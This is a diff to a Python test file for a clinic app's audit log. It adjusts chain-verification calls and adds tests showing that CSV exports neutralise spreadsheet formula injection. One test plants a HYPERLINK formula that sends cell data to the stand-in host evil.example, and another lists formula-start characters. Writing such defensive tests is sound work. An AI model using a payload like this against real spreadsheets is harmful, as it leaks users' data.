@@ -97,7 +97,7 @@ def test_verify_audit_detects_an_edited_row(therapist: Any, patient: Any, capsys
     call_command("verify_audit")
     assert "Audit chain intact: 4 events." in capsys.readouterr().out
     _tamper(events[2].pk, "nothing to see here")
-    report = verify_chain()
+    report = verify_chain(events[2].chain)
     assert not report.intact
     assert report.first_bad_id == events[2].pk
     with pytest.raises(CommandError, match=f"broken at event {events[2].pk}"):
@@ -112,7 +112,7 @@ def test_verify_audit_detects_a_deleted_row(therapist: Any) -> None:
         cursor.execute("DELETE FROM audit_auditevent WHERE id = %s", [events[1].pk])
         if connection.vendor == "postgresql":
             cursor.execute("SET session_replication_role = DEFAULT")
-    assert verify_chain().first_bad_id == events[2].pk
+    assert verify_chain(events[2].chain).first_bad_id == events[2].pk
 
 
 def test_admins_filter_their_clinics_report_and_export_it(
@@ -141,3 +141,29 @@ def test_report_rejects_an_end_date_before_the_start(client: Any, clinic_admin: 
     ).content.decode()
     assert "The end date must be on or after the start date." in html
     assert 'value="2026-05-02"' in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_safe_neutralises_every_formula_start(start: str) -> None:
+    from rehab_clinic.audit.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
+    assert spreadsheet_safe(f"Ann {start}1") == f"Ann {start}1"
+    assert spreadsheet_safe(None) == ""
+
+
+def test_the_audit_export_cannot_carry_a_formula_to_the_admins_spreadsheet(
+    client: Any, clinic_admin: Any, therapist: Any, patient: Any
+) -> None:
+    patient.first_name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    patient.last_name = "@SUM(1+1)"
+    patient.save()
+    record_event(user=therapist, action="view", patient=patient, obj=patient, detail="-2+3")
+    client.force_login(clinic_admin)
+    export = client.get(reverse("audit:export_csv"), {"patient": patient.pk})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert "'-2+3" in cells
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
